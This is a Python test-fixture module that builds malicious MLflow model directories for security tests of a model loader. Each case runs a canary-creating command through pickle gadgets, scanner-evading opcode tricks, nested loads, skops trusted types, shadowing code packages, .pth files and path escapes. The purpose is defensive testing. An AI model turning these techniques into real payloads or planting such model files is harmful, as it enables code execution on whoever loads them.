"""A catalogue of malicious MLflow model directories, each with a canary.

Every case is a named builder ``(root, canary) -> model directory``: it writes a complete
model (an MLmodel document of a realistic flavor, the environment files, the model files)
under ``root`` whose loading would create the file ``canary`` (or a file whose name starts
with it) if the attack worked, by the attack's own means. ``Case.live`` says how the payload
is proven live without mlmodel (plain ``pickle``, ``cloudpickle``, ``joblib``, ``skops`` or
MLflow's own loaders): ``tests/security/test_malicious_models.py`` proves every payload fires
that way, so a case that could never fire is caught. Files outside the model directory (path
escapes) are written under ``root/outside*``; nothing is written elsewhere.
"""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import os
import pickle
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from functools import cache
from importlib.metadata import version as _dist_version
from pathlib import Path
from typing import Any, Final, Literal

import yaml

from tests.pickle_payloads import bu, call0, call2, call4, g0, s4, torch_zip
from tests.security.pickles import B, C, G, P, Reduces, assemble, enc

Builder = Callable[[Path, Path], Path]
#: how a payload is proven live without mlmodel
LiveKind = Literal[
    "pickle",  # pickle.loads of a file (arg: path relative to the model directory)
    "stream",  # pickle.load until the end of the file: every pickle in it
    "gzip",
    "bz2",
    "xz",
    "zlib",
    "joblib",  # joblib.load
    "zipmember",  # arg "file:member": pickle.loads of a member of a zip
    "mlflow_pyfunc",  # mlflow.pyfunc.load_model(model).predict(frame)
    "mlflow_sklearn",  # mlflow.sklearn.load_model(model)
    "import",  # arg "code_dir:module": import module with code_dir first on sys.path
    "sitedir",  # site.addsitedir(arg)
    "skops",  # skops.io.load(arg, trusted=the flavor's skops_trusted_types)
]

PYTHON: Final = ".".join(map(str, sys.version_info[:3]))
COLUMNS: Final = ("a", "b")


@dataclass(frozen=True)
class Case:
    name: str
    family: str
    build: Builder
    live: tuple[LiveKind, str]
    #: the attack depends on what the process imported before (a shadowing package, a .pth):
    #: run it in a fresh interpreter, never in a warm one
    fresh: bool = False
    why: str = ""


# -- model directories -------------------------------------------------------------------


@cache
def version(distribution: str) -> str:
    return _dist_version(distribution)


def _env_files(model: Path) -> None:
    requirements = [
        f"mlflow=={version('mlflow')}",
        f"cloudpickle=={version('cloudpickle')}",
        f"numpy=={version('numpy')}",
        f"pandas=={version('pandas')}",
        f"scikit-learn=={version('scikit-learn')}",
        f"scipy=={version('scipy')}",
    ]
    (model / "requirements.txt").write_text("\n".join(requirements))
    conda = {
        "channels": ["conda-forge"],
        "dependencies": [f"python={PYTHON}", "pip<=26.3", {"pip": requirements}],
        "name": "mlflow-env",
    }
    (model / "conda.yaml").write_text(yaml.safe_dump(conda, sort_keys=False))
    python_env = {
        "python": PYTHON,
        "build_dependencies": ["pip==26.3", "setuptools==65.5.0", "wheel"],
        "dependencies": ["-r requirements.txt"],
    }
    (model / "python_env.yaml").write_text(yaml.safe_dump(python_env, sort_keys=False))


def write_model(model: Path, flavors: Mapping[str, Any], files: Mapping[str, bytes]) -> Path:
    """A model directory as MLflow 3 writes it: ``files`` (relative names), the MLmodel
    document with ``flavors`` and the environment files."""
    model.mkdir(parents=True, exist_ok=True)
    for name, data in files.items():
        target = model / name
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(data)
    document = {
        "flavors": dict(flavors),
        "mlflow_version": version("mlflow"),
        "model_id": None,
        "model_size_bytes": sum(len(d) for d in files.values()) or 1,
        "model_uuid": "5f0c1d2e3a4b4c5d8e9f0a1b2c3d4e5f",
        "prompts": None,
        "utc_time_created": "2026-01-02 03:04:05.678901",
    }
    (model / "MLmodel").write_text(yaml.safe_dump(document))
    _env_files(model)
    return model


def _env_conf() -> dict[str, str]:
    return {"conda": "conda.yaml", "virtualenv": "python_env.yaml"}


def sklearn_flavors(
    pickled: str = "model.pkl",
    fmt: str = "cloudpickle",
    *,
    code: str | None = None,
    model_path: str | None = None,
    data: str | None = None,
    trusted: list[str] | None = None,
    pyfunc: bool = True,
) -> dict[str, Any]:
    """``python_function`` (``mlflow.sklearn``) and ``sklearn`` flavors as MLflow saves them."""
    flavors: dict[str, Any] = {}
    if pyfunc:
        conf: dict[str, Any] = {
            "env": _env_conf(),
            "loader_module": "mlflow.sklearn",
            "model_path": model_path or pickled,
            "predict_fn": "predict",
            "python_version": PYTHON,
        }
        if code:
            conf["code"] = code
        if data:
            conf["data"] = data
        flavors["python_function"] = conf
    flavors["sklearn"] = {
        "code": code,
        "pickled_model": pickled,
        "serialization_format": fmt,
        "sklearn_version": version("scikit-learn"),
        "skops_trusted_types": trusted,
    }
    return flavors


def pyfunc_flavors(**conf: Any) -> dict[str, Any]:
    """A ``python_function`` flavor of ``mlflow.pyfunc.model`` (a PythonModel) plus ``conf``."""
    base: dict[str, Any] = {
        "cloudpickle_version": version("cloudpickle"),
        "code": None,
        "env": _env_conf(),
        "loader_module": "mlflow.pyfunc.model",
        "python_model": "python_model.pkl",
        "python_version": PYTHON,
        "streamable": False,
    }
    base.update(conf)
    if "model_code_path" in conf:  # a model from code has no pickled python_model
        del base["python_model"]
    return {"python_function": base}


def sklearn_model(root: Path, payload: bytes, **flavor: Any) -> Path:
    """An sklearn model whose (single) model file is ``payload``."""
    pickled = str(flavor.pop("pickled", "model.pkl"))
    extra = dict(flavor.pop("files", {}))
    return write_model(
        root / "model", sklearn_flavors(pickled, **flavor), {pickled: payload, **extra}
    )


@cache
def _frame_xy() -> tuple[Any, Any]:
    import numpy as np
    import pandas as pd

    x = pd.DataFrame({"a": [0.1, 0.9, 0.2, 0.8], "b": [1.0, 0.0, 1.0, 0.5]})
    return x, np.array([0, 1, 0, 1])


def fitted_estimator() -> Any:
    from sklearn.linear_model import LogisticRegression

    x, y = _frame_xy()
    return LogisticRegression().fit(x, y)


@cache
def benign_estimator_pickle() -> bytes:
    """A fitted LogisticRegression, pickled as MLflow's cloudpickle format does."""
    import cloudpickle

    return bytes(cloudpickle.dumps(fitted_estimator()))


# -- payload pieces ----------------------------------------------------------------------


def cmd(canary: Path) -> str:
    return f"touch {canary}"


def py(canary: Path) -> str:
    """Python source that creates the canary."""
    return f"open({str(canary)!r}, 'w').close()"


def os_system(canary: Path) -> bytes:
    return call4("os", "system", cmd(canary))


def _gadget(build: Callable[[Path], Any]) -> Builder:
    """An sklearn model whose model.pkl is the assembled payload ``build(canary)``."""

    def builder(root: Path, canary: Path) -> Path:
        return sklearn_model(root, assemble(build(canary)))

    return builder


def _raw(build: Callable[[Path], bytes], **flavor: Any) -> Builder:
    def builder(root: Path, canary: Path) -> Path:
        return sklearn_model(root, build(canary), **flavor)

    return builder


def _with_inner(
    build: Callable[[Path, Path], Any], inner_name: str = "artifacts/stats.pkl"
) -> Builder:
    """model.pkl = ``build(inner_path, canary)``, next to an inner os.system pickle."""

    def builder(root: Path, canary: Path) -> Path:
        model = root / "model"
        inner = model / inner_name
        return sklearn_model(
            root, assemble(build(inner, canary)), files={inner_name: os_system(canary)}
        )

    return builder


def _inner_model(build: Callable[[Path], Any]) -> Builder:
    """model.pkl = ``build(inner_model_dir)``: a nested load of a malicious model stored in
    ``extra/inner`` of the model directory."""

    def builder(root: Path, canary: Path) -> Path:
        model = root / "model"
        inner = write_model(model / "extra" / "inner", sklearn_flavors(), {"model.pkl": b""})
        (inner / "model.pkl").write_bytes(os_system(canary))
        sklearn_model(root, assemble(build(inner)))
        return model

    return builder


def zeros(*shape: int) -> C:
    return C(G("numpy", "zeros"), (shape if len(shape) > 1 else shape[0],))


def posix_path(path: Path | str) -> C:
    return C(G("pathlib", "PosixPath"), (str(path),))


def npy_object_array(payload: bytes) -> bytes:
    """A version 1.0 ``.npy`` file of one object element: the data is a pickle."""
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    padded = header + " " * (63 - (10 + len(header)) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(padded)) + padded.encode() + payload


# -- pickle tricks -----------------------------------------------------------------------


def _ext(opcode: bytes, code: int, canary: Path) -> bytes:
    """Register ``os.system`` as extension ``code`` in the loading process, then call it
    through the EXT1/EXT2/EXT4 opcode."""
    register = enc(C(G("copyreg", "add_extension"), ("os", "system", code)))
    size = {b"\x82": "<B", b"\x83": "<H", b"\x84": "<i"}[opcode]
    return (
        b"\x80\x04"
        + register
        + b"0"
        + opcode
        + struct.pack(size, code)
        + enc((cmd(canary),))
        + b"R."
    )


def memo_stack_global(canary: Path) -> bytes:
    """``os``/``system`` memoised, a dict pushed and popped, then fetched with BINGET."""
    return (
        b"\x80\x04"
        + s4("os")
        + b"\x94"
        + s4("system")
        + b"\x94}\x94"
        + b"0h\x00h\x01\x93("
        + s4(cmd(canary))
        + b"tR."
    )


def long_memo_stack_global(canary: Path) -> bytes:
    """Names stored with BINPUT/LONG_BINPUT at far indexes, read back with LONG_BINGET."""
    return (
        b"\x80\x04"
        + s4("system")
        + b"r"
        + struct.pack("<I", 70000)
        + b"0"
        + s4("posix")
        + b"q\x07"
        + b"0"
        + b"h\x07"
        + b"j"
        + struct.pack("<I", 70000)
        + b"\x93("
        + s4(cmd(canary))
        + b"tR."
    )


def protocol0_escaped(canary: Path) -> bytes:
    """Protocol 0 text, the command spelled with raw-unicode-escape sequences."""
    escaped = "".join(f"\\u{ord(ch):04x}" for ch in cmd(canary))
    return f"cos\nsystem\n(V{escaped}\ntR.".encode()


def import_getattr(canary: Path) -> Any:
    module = C(G("builtins", "__import__"), ("os",))
    return C(C(G("builtins", "getattr"), (module, "system")), (cmd(canary),))


def _estimator_with_payload(canary: Path) -> bytes:
    """A real fitted estimator with the payload in its state (BUILD of an allowed class)."""
    estimator = fitted_estimator()
    estimator.feature_names_in_ = Reduces(os.system, cmd(canary))
    return pickle.dumps(estimator, protocol=4)


def _object_array_payload(canary: Path) -> bytes:
    import numpy as np

    array = np.empty(1, dtype=object)
    array[0] = Reduces(os.system, cmd(canary))
    return pickle.dumps(array, protocol=4)


def _joblib_compressed(root: Path, canary: Path) -> Path:
    import joblib

    model = sklearn_model(root, b"", pickled="model.joblib")
    joblib.dump(Reduces(os.system, cmd(canary)), model / "model.joblib", compress=3)
    return model


def _legacy_data(root: Path, canary: Path) -> Path:
    """MLflow's early layout: the pyfunc flavor names the file with ``data``, no model_path."""
    flavors = sklearn_flavors("legacy.pkl", "pickle", data="legacy.pkl")
    del flavors["python_function"]["model_path"]
    return write_model(root / "model", flavors, {"legacy.pkl": os_system(canary)})


# -- flavor routes -----------------------------------------------------------------------


def _lightgbm(model_class: str) -> Builder:
    def builder(root: Path, canary: Path) -> Path:
        flavors = {
            "python_function": {
                "data": "model.pkl",
                "env": _env_conf(),
                "loader_module": "mlflow.lightgbm",
                "python_version": PYTHON,
            },
            "lightgbm": {
                "code": None,
                "data": "model.pkl",
                "lgb_version": version("lightgbm"),
                "model_class": model_class,
                "serialization_format": "cloudpickle",
            },
        }
        return write_model(root / "model", flavors, {"model.pkl": os_system(canary)})

    return builder


EVIL_MODULE = """open({canary!r}, "w").close()


class Booster:
    def load_model(self, path):
        pass


def make():
    return Booster()
"""


def _xgboost_code_class(root: Path, canary: Path) -> Path:
    flavors = {
        "python_function": {
            "code": "code",
            "data": "model.xgb",
            "env": _env_conf(),
            "loader_module": "mlflow.xgboost",
            "python_version": PYTHON,
        },
        "xgboost": {
            "code": "code",
            "data": "model.xgb",
            "model_class": "evil_xgb.Booster",
            "model_format": "xgb",
            "xgb_version": version("xgboost"),
        },
    }
    files = {
        "model.xgb": b"{}",
        "code/evil_xgb.py": EVIL_MODULE.format(canary=str(canary)).encode(),
    }
    return write_model(root / "model", flavors, files)


def _sklearn_only(root: Path, canary: Path) -> Path:
    return write_model(
        root / "model", sklearn_flavors(pyfunc=False), {"model.pkl": os_system(canary)}
    )


def _custom_flavor_only(root: Path, canary: Path) -> Path:
    flavors = {"acme_forest": {"pickled_model": "model.pkl", "acme_version": "1.0"}}
    return write_model(root / "model", flavors, {"model.pkl": os_system(canary)})


# -- code shipped in the model -----------------------------------------------------------


def _code_module(root: Path, canary: Path) -> Path:
    files = {"code/evil_transformer.py": EVIL_MODULE.format(canary=str(canary)).encode()}
    payload = assemble(C(G("evil_transformer", "make")))
    return sklearn_model(root, payload, code="code", files=files)


def _shadow(package: str, code: str = "code") -> Builder:
    """``code/<package>/__init__.py`` creates the canary; the model is a real estimator."""

    def builder(root: Path, canary: Path) -> Path:
        text = f"open({str(canary)!r}, 'w').close()\n"
        if code.startswith(".."):
            shadow = root / "model" / code / package / "__init__.py"
            shadow.parent.mkdir(parents=True, exist_ok=True)
            shadow.write_text(text)
            files: dict[str, bytes] = {}
        else:
            files = {f"{code}/{package}/__init__.py": text.encode()}
        return sklearn_model(root, benign_estimator_pickle(), code=code, files=files)

    return builder


def _symlinked_code(root: Path, canary: Path) -> Path:
    outside = root / "outside_code" / "sklearn" / "__init__.py"
    outside.parent.mkdir(parents=True)
    outside.write_text(f"open({str(canary)!r}, 'w').close()\n")
    model = sklearn_model(root, benign_estimator_pickle(), code="code")
    (model / "code").symlink_to(root / "outside_code")
    return model


LOADER = """open({canary!r}, "w").close()


def _load_pyfunc(path, model_config=None):
    open({canary!r}, "w").close()
    raise RuntimeError("loaded")
"""


def _loader_module(where: str) -> Builder:
    def builder(root: Path, canary: Path) -> Path:
        text = LOADER.format(canary=str(canary)).encode()
        name = "evil_loader"
        conf = {
            "code": where,
            "env": _env_conf(),
            "loader_module": name,
            "python_version": PYTHON,
        }
        rel = f"{name}.py" if where == "." else f"{where}/{name}.py"
        files = {rel: text, "model.pkl": benign_estimator_pickle()}
        return write_model(root / "model", {"python_function": conf}, files)

    return builder


CODE_MODEL = """import mlflow.pyfunc

open({canary!r}, "w").close()


class Model(mlflow.pyfunc.PythonModel):
    def predict(self, context, model_input, params=None):
        return model_input


mlflow.models.set_model(Model())
"""


def _model_from_code(root: Path, canary: Path) -> Path:
    conf = {
        "loader_module": "mlflow.pyfunc.loaders.code_model",
        "model_code_path": str(root / "model" / "model_code.py"),
    }
    files = {"model_code.py": CODE_MODEL.format(canary=str(canary)).encode()}
    return write_model(root / "model", pyfunc_flavors(**conf), files)


def _python_model(canary: Path, *, on: str, artifact: bool = False) -> bytes:
    """A PythonModel cloudpickled by value (defined here, in a function) whose ``on`` method
    creates the canary, or (``artifact``) whose load_context unpickles its artifact."""
    import cloudpickle
    import mlflow.pyfunc

    target = str(canary)

    base: Any = mlflow.pyfunc.PythonModel

    class Model(base):  # type: ignore[misc]
        def load_context(self, context: Any) -> None:
            if artifact:
                with open(context.artifacts["stats"], "rb") as handle:
                    self.stats = pickle.load(handle)
            elif on == "load_context":
                open(target, "w").close()

        def predict(self, context: Any, model_input: Any, params: Any = None) -> Any:
            if on == "predict":
                open(target, "w").close()
            return model_input

    return bytes(cloudpickle.dumps(Model()))


def _short(text: bytes) -> bytes:
    return b"\x8c" + bytes([len(text)]) + text


def _computed_name(text: bytes) -> bytes:
    """Push ``str(text, "ascii")`` built at load time: memo 0 holds ``builtins.str``."""
    return b"h\x00C" + bytes([len(text)]) + text + _short(b"ascii") + b"\x86R"


def computed_stack_global(canary: Path) -> bytes:
    """STACK_GLOBAL whose module and name are computed by an allowed type's call
    (``str(b"os", "ascii")``): no literal for a static scanner to read."""
    return (
        b"\x80\x04"
        + _short(b"builtins")
        + _short(b"str")
        + b"\x93\x94"
        + _computed_name(b"os")
        + _computed_name(b"system")
        + b"\x93"
        + _short(cmd(canary).encode())
        + b"\x85R."
    )


def _computed_python_model(root: Path, canary: Path) -> Path:
    """The computed-name payload as a PythonModel's python_model.pkl, which MLflow's own
    loader unpickles with cloudpickle (not mlmodel's allowlist unpickler)."""
    return write_model(
        root / "model", pyfunc_flavors(), {"python_model.pkl": computed_stack_global(canary)}
    )


def _python_model_case(on: str) -> Builder:
    def builder(root: Path, canary: Path) -> Path:
        files = {"python_model.pkl": _python_model(canary, on=on)}
        return write_model(root / "model", pyfunc_flavors(), files)

    return builder


def _python_model_artifact(root: Path, canary: Path) -> Path:
    model = root / "model"
    artifacts = {"stats": {"path": "artifacts/stats.pkl", "uri": str(model / "stats.pkl")}}
    files = {
        "python_model.pkl": _python_model(canary, on="", artifact=True),
        "artifacts/stats.pkl": os_system(canary),
    }
    return write_model(model, pyfunc_flavors(artifacts=artifacts), files)


def _pth_in_code(root: Path, canary: Path) -> Path:
    line = f"import os; os.system({cmd(canary)!r})\n"
    files = {"code/zz_evil.pth": line.encode(), "code/helpers.py": b"SCALE = 1.0\n"}
    return sklearn_model(root, benign_estimator_pickle(), code="code", files=files)


# -- skops self-trust --------------------------------------------------------------------


def _json_node(value: str, ident: int) -> dict[str, Any]:
    return {
        "__class__": "str",
        "__module__": "builtins",
        "__loader__": "JsonNode",
        "content": json.dumps(value),
        "is_json": True,
        "__id__": ident,
    }


def skops_call(module: str, name: str, *args: str) -> bytes:
    """A .skops archive whose root node is a LossNode: skops calls ``module.name(*args)``
    (its constructor) when loading it, if the type is trusted."""
    from skops.io._protocol import PROTOCOL

    schema = {
        "__class__": name,
        "__module__": module,
        "__loader__": "LossNode",
        "__reduce__": {
            "args": {
                "__class__": "tuple",
                "__module__": "builtins",
                "__loader__": "TupleNode",
                "content": [_json_node(a, 10 + i) for i, a in enumerate(args)],
                "__id__": 2,
            }
        },
        "content": {
            "__class__": "dict",
            "__module__": "builtins",
            "__loader__": "DictNode",
            "content": {},
            "key_types": {
                "__class__": "list",
                "__module__": "builtins",
                "__loader__": "ListNode",
                "content": [],
                "__id__": 4,
            },
            "__id__": 3,
        },
        "__id__": 1,
        "protocol": PROTOCOL,
        "_skops_version": version("skops"),
    }
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("schema.json", json.dumps(schema, indent=2))
    return buffer.getvalue()


def _skops(module: str, name: str, args: Callable[[Path], tuple[str, ...]]) -> Builder:
    def builder(root: Path, canary: Path) -> Path:
        blob = skops_call(module, name, *args(canary))
        return sklearn_model(
            root, blob, pickled="model.skops", fmt="skops", trusted=[f"{module}.{name}"]
        )

    return builder


# -- path escapes ------------------------------------------------------------------------


def _outside(root: Path, canary: Path, name: str = "evil.pkl") -> Path:
    target = root / "outside" / name
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_bytes(os_system(canary))
    return target


def _escape_pickled_model(root: Path, canary: Path) -> Path:
    _outside(root, canary, "model.pkl")
    return write_model(root / "model", sklearn_flavors("../outside/model.pkl"), {})


def _escape_absolute_model_path(root: Path, canary: Path) -> Path:
    target = _outside(root, canary)
    flavors = sklearn_flavors("model.pkl", model_path=str(target))
    return write_model(root / "model", flavors, {"model.pkl": benign_estimator_pickle()})


def _escape_symlink(root: Path, canary: Path) -> Path:
    target = _outside(root, canary)
    model = write_model(root / "model", sklearn_flavors(), {})
    (model / "model.pkl").symlink_to(target)
    return model


def _escape_data(root: Path, canary: Path) -> Path:
    _outside(root, canary)
    flavors = sklearn_flavors("model.pkl", "pickle", data="../outside/evil.pkl")
    return write_model(root / "model", flavors, {"model.pkl": benign_estimator_pickle()})


def _escape_python_model(root: Path, canary: Path) -> Path:
    _outside(root, canary, "python_model.pkl")
    return write_model(
        root / "model", pyfunc_flavors(python_model="../outside/python_model.pkl"), {}
    )


def _escape_artifact(root: Path, canary: Path) -> Path:
    target = _outside(root, canary, "stats.pkl")
    model = root / "model"
    artifacts = {"stats": {"path": "../outside/stats.pkl", "uri": str(target)}}
    files = {"python_model.pkl": _python_model(canary, on="", artifact=True)}
    return write_model(model, pyfunc_flavors(artifacts=artifacts), files)


# -- the catalogue -----------------------------------------------------------------------

PKL: Final = ("pickle", "model.pkl")
MLFLOW: Final = ("mlflow_pyfunc", "")

_G = _gadget
CASES: Final[list[Case]] = [
    # --- gadget globals that run code ---------------------------------------------------
    Case("os_system_protocol0", "code gadget", _raw(lambda c: call0("os", "system", cmd(c))), PKL),
    Case(
        "posix_system_protocol2",
        "code gadget",
        _raw(lambda c: call2("posix", "system", cmd(c))),
        PKL,
    ),
    Case(
        "py2_builtin_exec_fix_imports",
        "code gadget",
        _raw(lambda c: call0("__builtin__", "exec", py(c))),
        PKL,
    ),
    Case(
        "subprocess_run",
        "code gadget",
        _G(lambda c: C(G("subprocess", "run"), (["touch", str(c)],))),
        PKL,
    ),
    Case(
        "subprocess_getoutput",
        "code gadget",
        _G(lambda c: C(G("subprocess", "getoutput"), (cmd(c),))),
        PKL,
    ),
    Case("builtins_exec", "code gadget", _G(lambda c: C(G("builtins", "exec"), (py(c),))), PKL),
    Case(
        "builtins_eval",
        "code gadget",
        _G(lambda c: C(G("builtins", "eval"), (f"__import__('os').system({cmd(c)!r})",))),
        PKL,
    ),
    Case("builtins_import_getattr", "code gadget", _G(import_getattr), PKL),
    Case(
        "builtins_open_write",
        "code gadget",
        _G(lambda c: C(G("builtins", "open"), (str(c), "w"))),
        PKL,
    ),
    Case("io_open_write", "code gadget", _G(lambda c: C(G("io", "open"), (str(c), "w"))), PKL),
    Case("six_exec_alias", "code gadget", _G(lambda c: C(G("six", "exec_"), (py(c),))), PKL),
    Case(
        "runpy_run_code", "code gadget", _G(lambda c: C(G("runpy", "_run_code"), (py(c), {}))), PKL
    ),
    Case(
        "runpy_run_path",
        "code gadget",
        lambda root, c: sklearn_model(
            root,
            assemble(C(G("runpy", "run_path"), (str(root / "model" / "helpers.py"),))),
            files={"helpers.py": py(c).encode()},
        ),
        PKL,
    ),
    Case(
        "importlib_import_module_methodcaller",
        "code gadget",
        _G(
            lambda c: C(
                C(G("operator", "methodcaller"), ("system", cmd(c))),
                (C(G("importlib", "import_module"), ("os",)),),
            )
        ),
        PKL,
    ),
    Case(
        "code_interactive_interpreter",
        "code gadget",
        _G(
            lambda c: C(
                C(G("operator", "methodcaller"), ("runsource", py(c))),
                (C(G("code", "InteractiveInterpreter")),),
            )
        ),
        PKL,
    ),
    Case(
        "pydoc_pipepager",
        "code gadget",
        _G(lambda c: C(G("pydoc", "pipepager"), ("x", cmd(c)))),
        PKL,
    ),
    Case(
        "timeit_timeit",
        "code gadget",
        _G(lambda c: C(G("timeit", "timeit"), (py(c), "pass", G("time", "perf_counter"), 1))),
        PKL,
    ),
    Case(
        "yaml_unsafe_load",
        "code gadget",
        _G(
            lambda c: C(
                G("yaml", "unsafe_load"), (f"!!python/object/apply:os.system [{cmd(c)!r}]",)
            )
        ),
        PKL,
    ),
    Case(
        "pty_spawn", "code gadget", _G(lambda c: C(G("pty", "spawn"), (["sh", "-c", cmd(c)],))), PKL
    ),
    Case(
        "numpy_core_ufunc_reconstruct",
        "code gadget",
        _G(lambda c: C(C(G("numpy.core", "_ufunc_reconstruct"), ("os", "system")), (cmd(c),))),
        PKL,
    ),
    Case(
        "operator_attrgetter_module_alias",
        "code gadget",
        _G(
            lambda c: C(
                C(
                    C(G("operator", "attrgetter"), ("os.system",)),
                    (C(G("importlib", "import_module"), ("shutil",)),),
                ),
                (cmd(c),),
            )
        ),
        PKL,
    ),
    Case(
        "functools_partial_os_system",
        "code gadget",
        _G(lambda c: C(P(G("os", "system"), (cmd(c),)))),
        PKL,
    ),
    Case(
        "functools_reduce_getattr",
        "code gadget",
        _G(
            lambda c: C(
                C(
                    G("functools", "reduce"),
                    (
                        G("builtins", "getattr"),
                        ["system"],
                        C(G("importlib", "import_module"), ("os",)),
                    ),
                ),
                (cmd(c),),
            )
        ),
        PKL,
    ),
    Case(
        "copyreg_reconstructor_filehandler",
        "code gadget",
        _G(
            lambda c: C(
                G("copyreg", "_reconstructor"),
                (G("logging", "FileHandler"), G("logging", "FileHandler"), str(c)),
            )
        ),
        PKL,
        why="copyreg._reconstructor is on the stdlib allowlist; its base's __init__ opens the file",
    ),
    Case(
        "numpy_testing_runstring",
        "code gadget",
        _G(lambda c: C(G("numpy.testing._private.utils", "runstring"), (py(c), {}))),
        PKL,
    ),
    Case(
        "numpy_distutils_exec_command",
        "code gadget",
        _G(lambda c: C(G("numpy.distutils.exec_command", "exec_command"), (cmd(c),))),
        PKL,
    ),
    Case(
        "sklearn_testing_run_script",
        "code gadget",
        _G(
            lambda c: C(
                G("sklearn.utils._testing", "assert_run_python_script_without_output"), (py(c),)
            )
        ),
        PKL,
    ),
    # --- nested loads -------------------------------------------------------------------
    Case(
        "pandas_pickle_compat_loads",
        "nested load",
        _G(lambda c: C(G("pandas.compat.pickle_compat", "loads"), (os_system(c),))),
        PKL,
    ),
    Case(
        "pandas_read_pickle",
        "nested load",
        _with_inner(lambda i, c: C(G("pandas", "read_pickle"), (str(i),))),
        PKL,
    ),
    Case(
        "pyspark_cloudpickle_loads",
        "nested load",
        _G(lambda c: C(G("pyspark.cloudpickle", "loads"), (os_system(c),))),
        PKL,
    ),
    Case(
        "cloudpickle_loads",
        "nested load",
        _G(lambda c: C(G("cloudpickle", "loads"), (os_system(c),))),
        PKL,
    ),
    Case(
        "joblib_load",
        "nested load",
        _with_inner(lambda i, c: C(G("joblib", "load"), (str(i),))),
        PKL,
    ),
    Case(
        "joblib_numpy_pickle_load",
        "nested load",
        _with_inner(lambda i, c: C(G("joblib.numpy_pickle", "load"), (str(i),))),
        PKL,
        why="joblib.numpy_pickle is an allowlisted prefix",
    ),
    Case(
        "joblib_unpickler_bytesio",
        "nested load",
        _G(
            lambda c: C(
                C(G("operator", "methodcaller"), ("load",)),
                (
                    C(
                        G("joblib.numpy_pickle_utils", "Unpickler"),
                        (C(G("io", "BytesIO"), (os_system(c),)),),
                    ),
                ),
            )
        ),
        PKL,
    ),
    Case(
        "numpy_load_allow_pickle",
        "nested load",
        _with_inner(lambda i, c: C(P(G("numpy", "load"), (), {"allow_pickle": True}), (str(i),))),
        PKL,
        why="numpy is an allowlisted prefix; np.load falls back to pickle",
    ),
    Case(
        "numpy_read_array_bytesio",
        "nested load",
        _G(
            lambda c: C(
                P(G("numpy.lib.format", "read_array"), (), {"allow_pickle": True}),
                (C(G("io", "BytesIO"), (npy_object_array(os_system(c)),)),),
            )
        ),
        PKL,
    ),
    Case(
        "mlflow_pyfunc_load_model",
        "nested load",
        _inner_model(lambda i: C(G("mlflow.pyfunc", "load_model"), (str(i),))),
        PKL,
    ),
    Case(
        "mlmodel_pyfunc_allow_unsafe_partial",
        "nested load",
        _inner_model(
            lambda i: C(P(G("mlmodel.pyfunc", "load_model"), (), {"allow_unsafe": True}), (str(i),))
        ),
        PKL,
    ),
    Case(
        "mlmodel_sklearn_allow_unsafe_partial",
        "nested load",
        _inner_model(
            lambda i: C(
                P(G("mlmodel.sklearn", "load_model"), (), {"allow_unsafe": True}), (str(i),)
            )
        ),
        PKL,
    ),
    Case(
        "mlmodel_safety_load_pickle_file",
        "nested load",
        _inner_model(
            lambda i: C(
                P(G("mlmodel.runtime.load.safety", "load_pickle_file"), (), {"flavor": "sklearn"}),
                (
                    posix_path(i / "model.pkl"),
                    C(G("mlmodel.runtime.load.safety", "LoadPolicy"), (True,)),
                ),
            )
        ),
        PKL,
    ),
    # --- globals that write files -------------------------------------------------------
    Case(
        "numpy_ndarray_tofile_dotted",
        "file writer",
        _G(lambda c: C(G("numpy", "ndarray.tofile"), (zeros(1), str(c)))),
        PKL,
        why="STACK_GLOBAL name 'ndarray.tofile' through an allowed class",
    ),
    Case(
        "numpy_core_multiarray_tofile",
        "file writer",
        _G(lambda c: C(G("numpy.core.multiarray", "ndarray.tofile"), (zeros(1), str(c)))),
        PKL,
    ),
    Case(
        "numpy_memmap_w",
        "file writer",
        _G(lambda c: C(G("numpy", "memmap"), (str(c), "uint8", "w+", 0, (1,)))),
        PKL,
    ),
    Case("numpy_save", "file writer", _G(lambda c: C(G("numpy", "save"), (str(c), zeros(1)))), PKL),
    Case(
        "numpy_savetxt",
        "file writer",
        _G(lambda c: C(G("numpy", "savetxt"), (str(c), zeros(1)))),
        PKL,
    ),
    Case("joblib_dump", "file writer", _G(lambda c: C(G("joblib", "dump"), (1, str(c)))), PKL),
    Case(
        "joblib_numpy_pickle_dump",
        "file writer",
        _G(lambda c: C(G("joblib.numpy_pickle", "dump"), (1, str(c)))),
        PKL,
        why="joblib.numpy_pickle is an allowlisted prefix",
    ),
    Case(
        "pathlib_path_write_text",
        "file writer",
        _G(lambda c: C(G("pathlib", "Path.write_text"), (posix_path(c), "x"))),
        PKL,
    ),
    Case(
        "pathlib_posixpath_touch",
        "file writer",
        _G(lambda c: C(G("pathlib", "PosixPath.touch"), (posix_path(c),))),
        PKL,
    ),
    Case(
        "pathlib_symlink_to",
        "file writer",
        _G(lambda c: C(G("pathlib", "Path.symlink_to"), (posix_path(c), "/nonexistent-target"))),
        PKL,
    ),
    Case(
        "pandas_dataframe_to_csv",
        "file writer",
        _G(
            lambda c: C(
                G("pandas.core.frame", "DataFrame.to_csv"),
                (C(G("pandas.core.frame", "DataFrame")), str(c)),
            )
        ),
        PKL,
    ),
    Case(
        "scipy_wavfile_write",
        "file writer",
        _G(lambda c: C(G("scipy.io.wavfile", "write"), (str(c), 8000, zeros(1)))),
        PKL,
        why="scipy is an allowlisted prefix",
    ),
    Case(
        "scipy_io_savemat",
        "file writer",
        _G(lambda c: C(G("scipy.io", "savemat"), (str(c), {}))),
        PKL,
    ),
    Case(
        "shutil_copyfile",
        "file writer",
        lambda root, c: sklearn_model(
            root, assemble(C(G("shutil", "copyfile"), (str(root / "model" / "MLmodel"), str(c))))
        ),
        PKL,
    ),
    Case(
        "mlmodel_fsio_write_file",
        "file writer",
        _G(lambda c: C(G("mlmodel.core.fsio", "write_file"), (str(c), b"x"))),
        PKL,
    ),
    Case(
        "logging_filehandler",
        "file writer",
        _G(lambda c: C(G("logging", "FileHandler"), (str(c),))),
        PKL,
    ),
    Case(
        "tempfile_mkstemp",
        "file writer",
        _G(lambda c: C(G("tempfile", "mkstemp"), ("", c.name, str(c.parent)))),
        PKL,
    ),
